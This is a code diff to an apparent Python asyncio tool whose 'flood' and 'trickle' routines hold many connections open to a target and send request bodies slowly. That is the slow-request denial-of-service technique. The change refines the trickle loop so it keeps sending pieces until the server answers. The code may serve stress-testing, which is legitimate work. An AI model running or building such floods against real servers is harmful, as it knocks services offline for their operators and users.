@@ -127,6 +127,15 @@ async def flood(target, seconds, connections, request):
     await asyncio.gather(*(again(attempt, seconds) for _ in range(connections)))
 
 
+async def answers(reader, pause):
+    """Whether the server answers within the pause: before a body's end that is a refusal."""
+    try:
+        await asyncio.wait_for(reader.read(1), pause)
+        return True
+    except asyncio.TimeoutError:
+        return False
+
+
 async def trickle(target, seconds, connections, head, first, piece, pause):
     """Begins requests whose bodies then come slowly."""
 
@@ -134,12 +143,9 @@ async def trickle(target, seconds, connections, head, first, piece, pause):
         reader, writer = await target.open()
         try:
             writer.write(head() + first)
-            while not reader.at_eof():
-                await asyncio.wait_for(writer.drain(), 5)
-                await asyncio.sleep(pause)
+            while not await answers(reader, pause):
                 writer.write(piece)
-                if reader._buffer:  # an answer before the body's end is a refusal
-                    return
+                await asyncio.wait_for(writer.drain(), 5)
         except asyncio.TimeoutError:
             pass
         finally:
